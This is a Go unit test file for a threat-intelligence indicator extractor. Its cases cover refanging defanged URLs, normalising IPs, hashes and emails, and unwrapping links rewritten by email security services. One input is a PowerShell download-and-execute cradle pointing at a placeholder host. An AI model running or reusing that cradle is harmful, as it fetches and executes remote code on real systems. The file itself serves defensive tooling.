package indicator

import (
	"strings"
	"testing"
)

// extractAll runs Extract and writes each indicator as "type value".
func extractAll(x *Extractor, text string) []string {
	var out []string
	x.Extract([]byte(text), func(ind Indicator) bool {
		out = append(out, string(ind.Type)+" "+ind.Value)
		return true
	})
	return out
}

func TestExtract(t *testing.T) {
	x := New(Options{Exclude: []string{"league.example", "Hospital.Example."}})
	tests := []struct {
		name, text string
		want       []string
	}{
		// Refanging, as analysts write indicators in reports.
		{"hxxp and [.]", "Blocked hxxp://evil[.]example.com/login.php today.",
			[]string{"url http://evil.example.com/login.php", "domain evil.example.com"}},
		{"hXXps with [:]//", "hXXps[:]//evil[.]example.org/a", []string{"url https://evil.example.org/a", "domain evil.example.org"}},
		{"[://]", "https[://]evil(.)example.net/x", []string{"url https://evil.example.net/x", "domain evil.example.net"}},
		{"h**p", "h**p://neverssl.com", []string{"url http://neverssl.com", "domain neverssl.com"}},
		{"fxp", "fxp://files.evil.example.com/drop.exe", []string{"url ftp://files.evil.example.com/drop.exe", "domain files.evil.example.com"}},
		{"{.} and [dot]", "evil{.}example.com and bad[dot]example(dot)org", []string{"domain evil.example.com", "domain bad.example.org"}},
		{"spaced markers", "evil [.] example [.] com", []string{"domain evil.example.com"}},
		{"email [at]", "phish [at] evil [dot] com and x(at)evil.net and y[@]evil.org",
			[]string{"email phish@evil.com", "domain evil.com", "email x@evil.net", "domain evil.net", "email y@evil.org", "domain evil.org"}},
		{"ip defanged", "C2 at 185.117.73[.]7 and 91[.]92[.]240[.]23", []string{"ipv4 185.117.73.7", "ipv4 91.92.240.23"}},
		{"mixed brackets", "test(.}example[.)com", []string{"domain test.example.com"}},

		// Normalisation.
		{"upper-case host and scheme", "HTTPS://WWW.Evil.Example.COM/Path?Q=1", []string{"url https://www.evil.example.com/Path?Q=1", "domain www.evil.example.com"}},
		{"IDN to A-label", "bücher.example.de and https://bücher.de/ü", []string{"domain xn--bcher-kva.example.de", "url https://xn--bcher-kva.de/ü", "domain xn--bcher-kva.de"}},
		{"trailing dot of host", "http://evil.example.com./x", []string{"url http://evil.example.com/x", "domain evil.example.com"}},
		{"empty port", "http://evil.example.com:/x", []string{"url http://evil.example.com/x", "domain evil.example.com"}},
		{"port kept", "http://evil.example.com:8080/x", []string{"url http://evil.example.com:8080/x", "domain evil.example.com"}},
		{"userinfo trick", "http://paypal.com@evil.example.com/", []string{"url http://paypal.com@evil.example.com/", "domain evil.example.com"}},
		{"hash lower-case", "MD5: D41D8CD98F00B204E9800998ECF8427E", []string{"md5 d41d8cd98f00b204e9800998ecf8427e"}},
		{"ipv4 leading zeros", "seen from 185.117.073.010", []string{"ipv4 185.117.73.10"}},

		// Trailing punctuation around URLs.
		{"full stop", "Go to https://evil.example.com/a.", []string{"url https://evil.example.com/a", "domain evil.example.com"}},
		{"comma and quotes", `"https://evil.example.com/a", 'https://evil.example.com/b';`,
			[]string{"url https://evil.example.com/a", "domain evil.example.com", "url https://evil.example.com/b", "domain evil.example.com"}},
		{"parenthesised", "(see https://evil.example.com/a)", []string{"url https://evil.example.com/a", "domain evil.example.com"}},
		{"wikipedia parens", "https://en.wikipedia.org/wiki/Hospital_(disambiguation).",
			[]string{"url https://en.wikipedia.org/wiki/Hospital_(disambiguation)", "domain en.wikipedia.org"}},
		{"angle brackets", "<https://evil.example.com/a>", []string{"url https://evil.example.com/a", "domain evil.example.com"}},
		{"markdown", "[https://evil.example.com/a](https://evil.example.com/b)",
			[]string{"url https://evil.example.com/a", "domain evil.example.com", "url https://evil.example.com/b", "domain evil.example.com"}},
		{"powershell quote", "IEX (New-Object Net.WebClient).DownloadString('https://evil.example.com/rdp.ps1');",
			[]string{"url https://evil.example.com/rdp.ps1", "domain evil.example.com"}},
		{"missing space before scheme", "Clickhttps://evil.example.com/x", []string{"url https://evil.example.com/x", "domain evil.example.com"}},

		// IPs.
		{"private and special IPs dropped", "10.1.2.3 192.168.0.1 172.16.5.4 127.0.0.1 169.254.1.1 224.0.0.1 0.0.0.0 255.255.255.255 fe80::1 ::1 ff02::1 fd00::1 ::",
			nil},
		{"version number", "version 1.2.3.4 and 1.2.3.4.5 and 1.2.3", []string{"ipv4 1.2.3.4"}},
		{"ipv4 with port", "8.8.8.8:53", []string{"ipv4 8.8.8.8"}},
		{"ipv6 forms", "2a0b:4d07:85a3:0000:0000:8a2e:0370:7334, 2a0b:4d07:85a3::8a2e:370:7334. [2a0b:4d07::2]:443 ::ffff:45.133.1.128",
			[]string{"ipv6 2a0b:4d07:85a3::8a2e:370:7334", "ipv6 2a0b:4d07:85a3::8a2e:370:7334", "ipv6 2a0b:4d07::2", "ipv4 45.133.1.128"}},
		{"not ipv6", "at 12:30:45, MAC 00:1a:2b:3c:4d:5e, std::cout, a::b", nil},
		{"ip URL", "http://185.117.73.9/x and http://[2a0b:4d07::9]:8080/y",
			[]string{"url http://185.117.73.9/x", "ipv4 185.117.73.9", "url http://[2a0b:4d07::9]:8080/y", "ipv6 2a0b:4d07::9"}},
		{"private URL dropped", "http://192.168.1.1/admin", []string{}},

		// Not domains.
		{"file names", "invoice.pdf setup.exe index.html report.zip install.sh main.py notes.md", nil},
		{"defanged file-like TLD is a domain", "report[.]zip", []string{"domain report.zip"}},
		{"zip URL", "http://report.zip/", []string{"url http://report.zip/", "domain report.zip"}},
		{"three labels with zip", "files.evil.zip", []string{"domain files.evil.zip"}},
		{"missing space after full stop", "your account.Click here. Example.Com is fine", []string{"domain example.com"}},
		{"abbreviations", "e.g. i.e. U.S. a.m. 3.14 etc.", nil},
		{"no public suffix", "evil.invalidtld http://localhost/ server.local", nil},
		{"public suffix alone", "co.uk", nil},
		{"excluded", "report@league.example https://www.league.example/x HOSPITAL.example mail.hospital.example evil.example.com",
			[]string{"domain evil.example.com"}},
		{"underscore labels", "_dmarc.evil.example.com o_o.lgms.nl evil_.co _.co", []string{"domain _dmarc.evil.example.com", "domain o_o.lgms.nl"}},
		{"ellipsis", "wait...evil.example.com", []string{"domain evil.example.com"}},

		// Email.
		{"email", "From: John <John.Doe+x@Evil.Example.COM>", []string{"email john.doe+x@evil.example.com", "domain evil.example.com"}},
		{"email in auth results", "spf=pass smtp.mailfrom=bounce@evil.example.com;", []string{"email bounce@evil.example.com", "domain evil.example.com"}},
		{"local part with dotted TLD-like word", "jane.de+x@evil.example.com", []string{"email jane.de+x@evil.example.com", "domain evil.example.com"}},
		{"no local part", "@evil.co", []string{"domain evil.co"}},
		{"email IDN", "test@bücher.de", []string{"email test@xn--bcher-kva.de", "domain xn--bcher-kva.de"}},

		// Hashes and CVEs.
		{"hashes", "sha1=ADC83B19E793491B1C6EA0FD8B46CD9F32E592FC sha256:01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b",
			[]string{"sha1 adc83b19e793491b1c6ea0fd8b46cd9f32e592fc", "sha256 01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b"}},
		{"hash bounds", "xd41d8cd98f00b204e9800998ecf8427e d41d8cd98f00b204e9800998ecf8427e0 d41d8cd98f00b204e9800998ecf8427_", nil},
		{"hash with 0x", "0x1a1db93766e31994507511c9c70a1dd94465cf6d", []string{"sha1 1a1db93766e31994507511c9c70a1dd94465cf6d"}},
		{"hash file name", "d41d8cd98f00b204e9800998ecf8427e.exe", []string{"md5 d41d8cd98f00b204e9800998ecf8427e"}},
		{"imphash is not a file hash", "imphash: 18ddf28a71089acdbab5038f58044c0a", nil},
		{"cve", "Patch cve-2021-44228 and (CVE-2024-3094), not CVE-21-1 or CVE-2021-123", []string{"cve CVE-2021-44228", "cve CVE-2024-3094"}},

		// Rewritten links.
		{"safe links", "https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example.com%2Flogin%3Fa%3D1&data=04%7C01%7Cx%40y.z&sdata=abc&reserved=0",
			[]string{"url https://evil.example.com/login?a=1", "domain evil.example.com"}},
		{"proofpoint v2", "https://urldefense.proofpoint.com/v2/url?u=https-3A__evil.example.com_path_x.php-3Fid-3D1&d=DwMFaQ&c=abc&r=def&m=ghi&s=jkl&e=",
			[]string{"url https://evil.example.com/path/x.php?id=1", "domain evil.example.com"}},
		{"proofpoint v3", "https://urldefense.com/v3/__https://evil.example.com/login*user=a*b.c__;P0A!!ABCDEF!ghijk$",
			[]string{"url https://evil.example.com/login?user=a@b.c", "domain evil.example.com"}},
		{"proofpoint v3 run", "https://urldefense.com/v3/__https://evil.example.com/x*y**Az*__;PyMjw6k!!ABC!def$",
			[]string{"url https://evil.example.com/x?y##zé", "domain evil.example.com"}},
		{"google redirect", "https://www.google.com/url?q=https://evil.example.com/x&sa=D&source=editors",
			[]string{"url https://evil.example.com/x", "domain evil.example.com"}},
		{"mimecast", "https://protect-eu.mimecast.com/s/AbCdEfGhIj?domain=evil.example.com",
			[]string{"url https://protect-eu.mimecast.com/s/AbCdEfGhIj?domain=evil.example.com", "domain evil.example.com"}},
		{"safe link around proofpoint", "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Furldefense.proofpoint.com%2Fv2%2Furl%3Fu%3Dhttps-3A__evil.example.com_a%26d%3Dx&data=1",
			[]string{"url https://evil.example.com/a", "domain evil.example.com"}},

		{"safe links GCC High", "https://gcc02.safelinks.protection.office365.us/?url=https%3A%2F%2Fevil.example.com%2Fa&data=05%7C01",
			[]string{"url https://evil.example.com/a", "domain evil.example.com"}},
		{"teams safe links", "https://statics.teams.cdn.office.net/evergreen-assets/safelinks/1/atp-safelinks.html?url=https%3A%2F%2Fevil.example.com%2Fb&locale=en-us",
			[]string{"url https://evil.example.com/b", "domain evil.example.com"}},
		{"mimecastprotect", "https://url.uk.m.mimecastprotect.com/s/AbCdEf?domain=evil.example.com",
			[]string{"url https://url.uk.m.mimecastprotect.com/s/AbCdEf?domain=evil.example.com", "domain evil.example.com"}},
		{"google ccTLD", "https://www.google.co.uk/url?sa=t&url=https%3A%2F%2Fevil.example.com%2Fc&usg=x",
			[]string{"url https://evil.example.com/c", "domain evil.example.com"}},
		{"sendgrid click", "https://u1234.ct.sendgrid.net/ls/click?upn=https%3A%2F%2Fevil.example.com%2Fd",
			[]string{"url https://evil.example.com/d", "domain evil.example.com"}},
		{"barracuda", "https://linkprotect.cudasvc.com/url?a=https%3a%2f%2fevil.example.com%2fe&c=E,1,abc&typo=1",
			[]string{"url https://evil.example.com/e", "domain evil.example.com"}},
		{"mailchimp click", "https://hospital.us1.list-manage.com/track/click?u=abc&id=def&url=https%3A%2F%2Fevil.example.com%2Ff",
			[]string{"url https://evil.example.com/f", "domain evil.example.com"}},
		{"open redirect target surfaced", "https://asf.goole.com/mail?url=http%3A%2F%2Fevil.example.com%2Fg&t=1",
			[]string{"url https://asf.goole.com/mail?url=http%3A%2F%2Fevil.example.com%2Fg&t=1", "domain asf.goole.com", "url http://evil.example.com/g", "domain evil.example.com"}},

		// Text shapes.
		{"local part is no domain", "from ceo.fraud.xyz@localhost and a@b@c.example.com", nil},
		{"numeric hosts", "http://134744072/ and http://0x08080808/x", []string{"url http://8.8.8.8/", "ipv4 8.8.8.8", "url http://8.8.8.8/x", "ipv4 8.8.8.8"}},
		{"small numbers are no hosts", "http://1234/", nil},
		{"glued IPs", "Source IP:185.220.101.4was seen, v1.2.3.4 is a version", []string{"ipv4 185.220.101.4"}},
		{"spaced defangs", "evil-kit . com and evil-kit2 .com, hxxps :// evil-kit3.com/a", []string{"domain evil-kit.com", "domain evil-kit2.com", "url https://evil-kit3.com/a", "domain evil-kit3.com"}},
		{"spaced quad", "C2 at 185.220.101 . 4, version 1.2 . 3", []string{"ipv4 185.220.101.4"}},
		{"ethereum address is no hash", "pay 0x32Be343B94f860124dC4fEe278FDCBD38C102D88", nil},
		{"sentence end is no defang", "It went to hospital. It was fine", nil},
		{"scheme-less defanged URL", "get evil[.]com/x.php now", []string{"url http://evil.com/x.php", "domain evil.com"}},
		{"scheme-less www URL", "www.evil-kit.com/login.", []string{"url http://www.evil-kit.com/login", "domain www.evil-kit.com"}},
		{"bare reference stays a domain", "see github.com/org/repo", []string{"domain github.com"}},
		{"documentation ranges", "192.0.2.1 198.51.100.2 203.0.113.3 198.18.0.1 100.64.0.1 2001:db8::1", nil},
		{"markdown", "[a](https://md.example.com/a)[b](https://md2.example.com/b)", []string{"url https://md.example.com/a", "domain md.example.com", "url https://md2.example.com/b", "domain md2.example.com"}},
		{"analysis service", "https://www.virustotal.com/gui/ip-address/185.220.101.4/detection",
			[]string{"url https://www.virustotal.com/gui/ip-address/185.220.101.4/detection", "domain www.virustotal.com", "ipv4 185.220.101.4"}},

		// Odd input.
		{"invalid UTF-8 and NUL", "\xff\xfeevil.example.com\x00\xc3", []string{"domain evil.example.com"}},
		{"unicode space ends URL", "see\u00a0evil[.]example.com/x.exe\u00a0now", []string{"url http://evil.example.com/x.exe", "domain evil.example.com"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := extractAll(x, tt.text)
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Errorf("Extract(%q)\n got %q\nwant %q", tt.text, got, tt.want)
			}
		})
	}
}

func TestExtractStops(t *testing.T) {
	x := New(Options{})
	n := 0
	x.Extract([]byte("a.example.com b.example.com c.example.com"), func(Indicator) bool { n++; return n < 2 })
	if n != 2 {
		t.Errorf("emit called %d times after returning false, want 2", n)
	}
}
